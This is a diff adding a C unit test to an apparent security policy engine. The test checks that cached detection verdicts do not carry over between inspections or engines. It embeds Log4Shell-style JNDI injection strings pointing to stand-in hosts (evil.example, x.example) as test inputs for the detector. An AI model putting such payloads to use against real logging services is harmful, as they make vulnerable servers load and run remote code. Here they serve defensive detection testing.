@@ -1023,6 +1023,62 @@ START_TEST(repeated_strings_judged_alike)
 }
 END_TEST
 
+/* The memo of verdicts and the parser's blocks are kept per thread between
+ * inspections: nothing of one inspection may show in the next, even under
+ * another engine's policy. */
+static size_t count_category(const struct pol_engine *e, const char *ev, size_t n,
+                             enum pol_category cat)
+{
+	struct pol_result *r;
+	size_t k = 0;
+	ck_assert_int_eq(pol_inspect(e, ev, n, &r), 0);
+	for (size_t i = 0; i < pol_result_count(r); i++)
+		k += pol_result_finding(r, i)->category == cat;
+	pol_result_free(r);
+	return k;
+}
+
+START_TEST(nothing_carries_over_between_inspections)
+{
+	/* time enough for the sanitizers; the second engine runs jndi only
+	 * for SQS: this unknown event's strings are not judged by it, so no
+	 * hit of the first engine may be replayed */
+	char err[256];
+	struct pol_engine *on, *off;
+	const char *p = write_tmp("longer.json", "{\"limits\": {\"budget_us\": 10000000}}\n");
+	ck_assert_msg(pol_engine_new(&on, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
+	              err);
+	p = write_tmp("nojndi.json",
+	              "{\"limits\": {\"budget_us\": 10000000}, \"detectors\": "
+	              "{\"jndi\": {\"action\": \"alert\", \"sources\": [\"sqs\"]}}}\n");
+	ck_assert_msg(pol_engine_new(&off, &p, 1, POL_MODE_MONITOR, err, sizeof(err)) == 0, "%s",
+	              err);
+	/* big enough for spare blocks (over 128 KB), the attack after the
+	 * strings that start the memo, twice so that its verdict is replayed
+	 * (and within the findings limit) */
+	size_t cap = 1 << 20, len = 0;
+	char *big = malloc(cap);
+	len += (size_t)snprintf(big + len, cap - len, "{\"notes\":[");
+	for (int i = 0; len < 150000; i++)
+		len += (size_t)snprintf(big + len, cap - len, "%s\"note \\\"%d\\\" of many\"",
+		                        i ? "," : "", i);
+	for (int i = 0; i < 2; i++)
+		len += (size_t)snprintf(big + len, cap - len, ",\"${jndi:ldap://evil.example/a}\"");
+	len += (size_t)snprintf(big + len, cap - len, "]}");
+	size_t with = count_category(on, big, len, POL_CAT_JNDI);
+	ck_assert_uint_gt(with, 0);
+	ck_assert_uint_eq(count_category(off, big, len, POL_CAT_JNDI), 0);
+	ck_assert_uint_eq(count_category(on, big, len, POL_CAT_JNDI), with);
+	/* a smaller event after a bigger one: parsed from its own bytes */
+	const char *small = "{\"q\":\"${jndi:ldap://x.example/b}\"}";
+	ck_assert_uint_eq(count_category(on, small, strlen(small), POL_CAT_JNDI), 1);
+	ck_assert_uint_eq(count_category(off, small, strlen(small), POL_CAT_JNDI), 0);
+	free(big);
+	pol_engine_free(on);
+	pol_engine_free(off);
+}
+END_TEST
+
 START_TEST(policy_check_names_file_line_cause)
 {
 	static const struct {
@@ -1083,6 +1139,7 @@ static Suite *policies_suite(void)
 	tcase_add_test(t, one_engine_many_threads);
 	tcase_add_test(t, policy_rules_regex_targets_exclusions);
 	tcase_add_test(t, repeated_strings_judged_alike);
+	tcase_add_test(t, nothing_carries_over_between_inspections);
 	tcase_add_test(t, policy_check_names_file_line_cause);
 	suite_add_tcase(s, t);
 	return s;
